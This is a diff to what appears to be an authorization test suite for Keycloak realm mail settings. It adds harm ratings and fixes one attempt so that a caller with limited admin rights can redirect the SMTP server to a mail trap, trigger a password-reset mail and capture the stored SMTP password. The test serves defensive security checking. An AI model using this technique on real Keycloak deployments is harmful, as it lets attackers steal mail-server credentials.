@@ -20,6 +20,7 @@ export const manageRealmMail: readonly Attempt[] = [
   {
     id: "redirect-password-mail",
     roles,
+    harm: "realmAdmin",
     realm,
     attack: async (scene) => {
       const { attacker, chief } = scene;
@@ -41,13 +42,15 @@ export const manageRealmMail: readonly Attempt[] = [
     // The password stays when the masked one is sent back, and so goes where the address says.
     id: "redirect-mail-servers-password",
     roles,
+    harm: "critical",
     realm,
     attack: async (scene) => {
       const { attacker, chief } = scene;
       const trap = await startMailTrap();
       try {
         const masked = await attacker.caller.read<typeof realm>("");
-        const smtpServer = { ...masked.smtpServer, ...trap.settings };
+        // Keycloak 26.2 keeps the stored password only where the type of authentication is said.
+        const smtpServer = { ...masked.smtpServer, ...trap.settings, authType: "basic" };
         await attacker.caller.send("PUT", "", { resetPasswordAllowed: true, smtpServer });
         await forgetPassword(scene, newBrowser(), chief.name);
         if (trap.password() === undefined) throw new Error("No mail came with a password.");
